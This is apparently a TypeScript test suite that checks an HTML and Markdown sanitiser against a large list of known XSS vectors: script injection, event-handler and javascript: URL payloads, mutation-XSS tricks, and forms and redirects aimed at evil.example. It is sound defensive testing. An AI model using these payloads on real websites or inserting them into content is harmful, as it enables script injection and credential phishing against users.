import { Parser } from 'htmlparser2'
import { marked } from 'marked'
import { describe, expect, it } from 'vitest'
import { parseHtml } from '../dom/parse-html'
import { htmlToMarkdown } from '../html-to-markdown/html-to-markdown'
import { runPipeline } from '../pipeline'
import { sanitize } from './sanitize'

/** Known attacks on sanitisers (OWASP, PortSwigger, html5sec, advisories of sanitisers). */
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x20type="text/javascript">alert(1);</script>',
  '<script/src=data:,alert(1)>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)//',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img/src/onerror=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img """><script>alert(1)</script>">',
  '<img src=`x`onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img srcset="javascript:alert(1) 1x, data:,x 2x" src="https://e.example/a.png">',
  '<img src=https://e.example/a.png onload\n=alert(1)>',
  '<picture><source srcset="x" onerror=alert(1)><img src=x></picture>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="&#14; javascript:alert(1)">x</a>',
  '<a href="java\u200Bscript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://e.example/1">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href=x onmouseover=alert(1)>x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)><a id=x></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><g title="</style><img src onerror=alert(1)>">',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1) />#x">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<div><noscript></div><img title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<style>@import "javascript:alert(1)";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe src="//www.youtube.com/embed/x"></iframe>',
  '<iframe src="//evil.example/embed/x"></iframe>',
  '<iframe src="/\\evil.example/embed/x"></iframe>',
  '<iframe src="//www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe src="//www.youtube.com:8443/embed/x"></iframe>',
  '<img src="//evil.example:x/a.png">',
  '<video src="//[evil/v.mp4" poster="\\\\evil.example"></video>',
  '<base href="//evil.example/"><iframe src="embed/x"></iframe>',
  '<iframe src="http://www.youtube.com/embed/x"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<base href="javascript:/a/-alert(1)///////">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<input type="image" src="x" onerror="alert(1)">',
  '<select onfocus=alert(1) autofocus><option>x</select>',
  '<keygen autofocus onfocus=alert(1)>',
  '<isindex action=javascript:alert(1) type=image>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster="javascript:alert(1)" src="https://e.example/v.mp4"></video>',
  '<audio src="data:audio/x,alert(1)" onloadstart=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  '<div id="x" tabindex=1 onfocus=alert(1)></div>',
  '<a id=attributes name=cookie><img name=getElementById id=body>',
  '<x onclick=alert(1)>x</x>',
  '<x/onpointerenter=alert(1)>x',
  '<p/onclick=alert(1)>x',
  '<b\fonclick=alert(1)>x</b>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>',
  '<? foo="><script>alert(1)</script>">',
  '<! foo="><script>alert(1)</script>">',
  '</ foo="><script>alert(1)</script>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
  "<p title='\"><script>alert(1)</script>'>x</p>",
  '＜script＞alert(1)＜/script＞',
  '<ſcript>alert(1)</ſcript>',
  '<img src=x onerror\u2028=alert(1)>',
  '<table><tr><td><form><svg><mtext></form><form><mtext></svg>',
  '[x](javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](data:text/html,x "t")',
  '![x](javascript:alert(1))',
  '![x](https://e.example/a"onerror="alert(1).png)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '```js"onclick=alert(1)\nx\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '# <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n|--|\n| <svg onload=alert(1)> |',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
  '<aside markdown="1" onclick="alert(1)">**x** <script>alert(1)</script></aside>',
  '[x](<java\nscript:alert(1)>)',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```',
  '<noscript>&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;</noscript>',
  '<iframe>&lt;/iframe&gt;&lt;script&gt;alert(1)&lt;/script&gt;</iframe>',
  '<xmp>&lt;/xmp&gt;&lt;script&gt;alert(1)&lt;/script&gt;</xmp>',
]

const ELEMENTS =
  /^(?:h[2-6]|p|div|section|aside|blockquote|pre|hr|br|wbr|ul|ol|li|dl|dt|dd|fig(?:ure|caption)|img|source|audio|video|iframe|table|caption|col(?:group)?|t(?:head|body|foot|r|h|d)|details|summary|a|abbr|b|bd[io]|cite|code|data|del|dfn|em|i|ins|kbd|mark|q|r[pt]|ruby|s|samp|small|span|strong|su[bp]|time|u|var|input)$/
const ATTRIBUTES =
  /^(?:id|class|lang|dir|title|href|rel|hreflang|aria-label|src|alt|width|height|loading|decoding|type|checked|disabled|tabindex|role|align|colspan|rowspan|scope|cite|datetime|controls|preload|poster|open|start|value|allow|allowfullscreen|sandbox|referrerpolicy)$/
const LINK = /^(?:https?:\/\/|mailto:|tel:|[#?]|\/(?![/\\])|[^:/?#\\]+(?:[/?#]|$))/i
const MEDIA = /^(?:https:\/\/|\/(?![/\\])|[^:/?#\\]+(?:[/?#]|$))/i
const PLAYERS = /^https:\/\/(?:www\.youtube(?:-nocookie)?\.com|player\.vimeo\.com)\//

/** Everything in the HTML that could run or load something in a browser. Empty for safe HTML. */
function dangersIn(html: string): string[] {
  const dangers: string[] = []
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!ELEMENTS.test(name)) dangers.push(`<${name}>`)
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!ATTRIBUTES.test(attribute)) dangers.push(`${name}[${attribute}]`)
        const allowed = name === 'iframe' ? PLAYERS : name === 'a' ? LINK : MEDIA
        if (/^(?:href|src|poster|cite)$/.test(attribute) && !allowed.test(value))
          dangers.push(`${name} ${value}`)
      }
    },
    oncomment: (comment) => dangers.push(`comment ${comment}`),
    onprocessinginstruction: (name) => dangers.push(`instruction ${name}`),
  })
  parser.end(html)
  return dangers
}

const options = { siteUrl: 'https://example.org', locale: 'id', title: '' } as const

describe('the HTML for readers', () => {
  it.each(vectors)('runs nothing of %j', (vector) => {
    expect(dangersIn(sanitize(vector).html)).toEqual([])
    for (const format of ['html', 'markdown', 'text'] as const) {
      for (const source of [vector, `<div><p>${vector}</p></div>`]) {
        const { html } = runPipeline(source, { ...options, format })
        expect(dangersIn(html)).toEqual([])
        expect(dangersIn(marked.parse(htmlToMarkdown(parseHtml(html)), { async: false }))).toEqual([])
      }
    }
  })

  it.each([
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="/\t/evil.example">x</a>',
    '<iframe src="//www.youtube.com/embed/x"></iframe>',
    '<img src="//e.example/a.png">',
    '<video poster="//e.example/a.png"></video>',
  ])('has no scheme-relative URL when only sanitised: %j', (html) => {
    expect(sanitize(html).html).not.toMatch(/(?:href|src|poster)=/)
    expect(sanitize(html).removed).toHaveLength(1)
  })

  it('runs nothing of all vectors combined', () => {
    expect(dangersIn(runPipeline(vectors.join('\n\n'), { ...options, format: 'markdown' }).html)).toEqual([])
    expect(dangersIn(runPipeline(vectors.join(''), { ...options, format: 'html' }).html)).toEqual([])
  })

  it('does not change when it is sanitised again', () => {
    for (const vector of vectors) {
      const { html } = sanitize(vector)
      expect(sanitize(html).html).toBe(html)
    }
  })
})
